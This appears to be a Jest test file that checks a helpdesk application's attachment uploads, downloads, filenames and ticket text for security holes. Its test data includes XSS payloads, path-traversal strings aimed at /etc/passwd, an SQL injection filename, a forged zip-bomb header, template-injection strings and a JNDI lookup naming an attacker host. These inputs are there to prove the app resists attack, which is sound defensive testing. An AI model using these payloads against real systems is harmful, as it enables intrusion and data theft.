import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdir, readdir } from 'node:fs/promises';
import { Settings } from '#config';
import { aTicket, HelpdeskTestApp, type TestDepartment } from '#testing';

interface Attachment {
  readonly id: string;
  readonly fileName: string;
}

let helpdesk: HelpdeskTestApp;
let department: TestDepartment;
let ref: string;

beforeAll(async () => {
  helpdesk = await HelpdeskTestApp.start();
  department = await helpdesk.aDepartment();
  ({ ref } = await aTicket(helpdesk, department));
}, 60_000);
afterAll(() => helpdesk.stop());

const upload = (name: string, content: Buffer, type = 'image/png') =>
  helpdesk
    .as(department.requester)
    .post(`/tickets/${ref}/attachments`)
    .set('content-type', 'multipart/form-data; boundary=edge')
    .send(
      Buffer.concat([
        Buffer.from(
          `--edge\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n` +
            `Content-Type: ${type}\r\n\r\n`,
        ),
        content,
        Buffer.from('\r\n--edge--\r\n'),
      ]),
    );

/** Byte for byte: what is JSON by name need not be any. */
const download = ({ id }: Attachment) =>
  helpdesk
    .as(department.agent)
    .get(`/tickets/${ref}/attachments/${id}`)
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => {
        done(null, Buffer.concat(chunks));
      });
    })
    .expect(200);

const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

describe('row 38: SVG and type confusion', () => {
  it.each([
    ['a.png', SVG, 'image/svg+xml'],
    ['a.jpg', SVG, 'image/jpeg'],
    ['a.svg', SVG, 'image/png'],
    ['a.html', HTML, 'text/plain'],
    ['a.xhtml', HTML, 'image/png'],
    ['a.png', HTML, 'text/html'],
    ['a.pdf', HTML, 'application/pdf'],
    ['a.png.html', PNG, 'image/png'],
    ['a.exe', Buffer.from('MZ'), 'image/png'],
    ['a.png', Buffer.concat([Buffer.from('GIF89a'), HTML]), 'image/png'],
  ])('%s that is something else is not taken', async (name, content, type) => {
    const { body } = await upload(name, content, type).expect(415);
    expect(body).toMatchObject({ code: 'unsupported_media_type' });
  });

  it.each([
    ['polyglot.png', Buffer.concat([PNG, HTML]), 'text/html', 'image/png'],
    ['page.txt', HTML, 'text/html', 'text/plain'],
    ['script.pdf', Buffer.from('%PDF-1.7\n/JS (app.alert(1))'), 'text/html', 'application/pdf'],
    ['data.json', HTML, 'text/html', 'application/json'],
  ])('%s is handed out as a file, whatever was said of it', async (name, content, said, type) => {
    const { body } = await upload(name, content, said).expect(201);
    const { headers } = await download(body as Attachment);
    expect(headers).toMatchObject({
      'content-type': type,
      'content-disposition': expect.stringMatching(/^attachment;/),
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'private, no-store',
    });
  });
});

describe('row 39: filenames and traversal', () => {
  const keptFiles = async (): Promise<string[]> => {
    const { attachmentsDir } = helpdesk.app.get(Settings);
    await mkdir(attachmentsDir, { recursive: true });
    const entries = await readdir(attachmentsDir, { recursive: true, withFileTypes: true });
    return entries.filter((entry) => entry.isFile()).map(({ name }) => name);
  };

  it.each([
    ['../../../../etc/cron.d/evil.txt', 'evil.txt'],
    ['..\\..\\evil.txt', 'evil.txt'],
    ['/etc/passwd.txt', 'passwd.txt'],
    ['C:\\boot.txt', 'boot.txt'],
    ['..%2f..%2fevil.txt', '..%2f..%2fevil.txt'],
    ['..%c0%afevil.txt', '..%c0%afevil.txt'],
    ['\u202Etxt.gpj.txt', 'txt.gpj.txt'],
    ['zero\u200Bwidth\u200D\uFEFF.txt', 'zerowidth.txt'],
    ['<img src=x onerror=alert(1)>.txt', '<img src=x onerror=alert(1)>.txt'],
    ["a'; drop table app.attachments; --.txt", "a'; drop table app.attachments; --.txt"],
    ['__proto__.txt', '__proto__.txt'],
  ])('%j is kept under a key of ours and called %j', async (name, shown) => {
    const before = new Set(await keptFiles());
    const { body } = await upload(name, Buffer.from('text'), 'text/plain').expect(201);
    expect((body as Attachment).fileName).toBe(shown);
    const added = (await keptFiles()).filter((file) => !before.has(file));
    expect(added).toEqual([expect.stringMatching(/^[\w-]{32}$/)]);
    const disposition = String((await download(body as Attachment)).headers['content-disposition']);
    expect(disposition).toBe(`attachment; filename*=UTF-8''${encodeURIComponent(shown)}`);
    expect(disposition).not.toMatch(/[\r\n"\\/]/);
  });

  it.each(['n'.repeat(4_096), '', '.', '..', '.txt\u0000.exe', 'a.txt\u200B.exe', 'CON'])(
    'a name such as %j does no harm',
    async (name) => {
      const { status, body } = await upload(name, Buffer.from('text'), 'text/plain');
      expect([201, 400, 415]).toContain(status);
      if (status === 201) expect((body as Attachment).fileName.length).toBeLessThanOrEqual(200);
    },
  );

  it('a name of 4 KB keeps its ending', async () => {
    const { body } = await upload(
      `${'n'.repeat(4_096)}.txt`,
      Buffer.from('x'),
      'text/plain',
    ).expect(201);
    expect((body as Attachment).fileName).toMatch(/^n+…n+\.txt$/);
  });

  it.each([
    ...['/../../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc%2fpasswd'],
    ...['/assets/..%2f..%2findex.html', '/assets/../../../package.json', '/..%5c..%5cpackage.json'],
    ...['/%c0%ae%c0%ae/package.json', '//etc/passwd', '/assets/%00', '/.env', '/package.json'],
  ])('no file outside the pages is read by %s', async (path) => {
    const response = await fetch(`${helpdesk.url}${path}`);
    const body = await response.text();
    expect(body).not.toMatch(/root:x:|"commondesk"|devDependencies/);
  });
});

describe('row 40: archives', () => {
  it('are kept as they are and never unpacked, whatever they claim to hold', async () => {
    // The head of an entry that says it unpacks to 4 GB, and climbs out.
    const name = '../../evil';
    const head = Buffer.alloc(30);
    head.write('PK\u0003\u0004', 'latin1');
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(10, 18);
    head.writeUInt32LE(0xffff_ffff, 22);
    head.writeUInt16LE(name.length, 26);
    const bomb = Buffer.concat([head, Buffer.from(name), Buffer.alloc(10)]);
    const { body } = await upload('bomb.zip', bomb, 'application/zip').expect(201);
    const { body: back } = await download(body as Attachment);
    expect(Buffer.compare(back as Buffer, bomb)).toBe(0);
  });
});

describe('row 42: template injection', () => {
  it.each([
    ...['{{constructor.constructor("return process")()}}', '${7*7}', '<%= 7*7 %>', '#{7*7}'],
    ...['{{ticket.password_hash}}', '[[CUSTOMER_UserPassword]]', '{% debug %}', '@(1+1)', '%s%n'],
    ...['$' + '{jndi:ldap://evil.example/a}', '<OTRS_CONFIG_DatabasePw>', '{{{raw}}}', '*{7*7}'],
  ])('%s stays what it is', async (text) => {
    const ticket = await aTicket<{ ref: string; subject: string }>(helpdesk, department, {
      subject: text,
      description: text,
    });
    expect(ticket.subject).toBe(text);
    const agent = helpdesk.as(department.agent);
    await agent.post(`/tickets/${ticket.ref}/replies`).send({ body: text }).expect(201);
    const { body } = await agent.get(`/tickets/${ticket.ref}`).expect(200);
    const { messages } = body as { messages: { body: string }[] };
    expect(messages.map((message) => message.body)).toEqual([text, text]);
    const told = await helpdesk.as(department.requester).get('/notifications').expect(200);
    expect((told.body as { items: { title: string }[] }).items[0]?.title).toContain(text);
  });
});
